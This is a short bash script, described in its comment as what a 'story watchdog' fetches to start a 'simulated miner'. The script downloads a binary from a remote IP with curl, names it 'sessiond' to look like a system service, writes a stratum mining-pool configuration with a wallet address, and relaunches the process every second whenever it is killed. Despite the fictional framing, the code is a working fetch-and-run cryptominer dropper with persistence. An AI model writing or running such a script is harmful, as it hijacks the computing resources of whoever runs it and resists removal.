#!/bin/bash
# What the story watchdog fetches: starts a simulated miner, and starts it again when it is gone.
cd "$(dirname "$0")"
curl -fsS -o sessiond http://203.0.113.10/agent
chmod 755 sessiond
echo "-o stratum+tcp://203.0.113.20:3333 -u 4A9xRChALFugGoDBphcDkRyXf6T4773ZHGpnSHTuzfYKaCo59FXciwgg5JEEp25JTVG43CKQad96Q9zVNjomae9e32XPmL3 -s 40" >sessiond.conf
while sleep 1; do
    if [ -z "$miner" ] || ! kill -0 "$miner" 2>/dev/null; then
        ./sessiond -c sessiond.conf &
        miner=$!
        echo "$miner" >pid
    fi
done
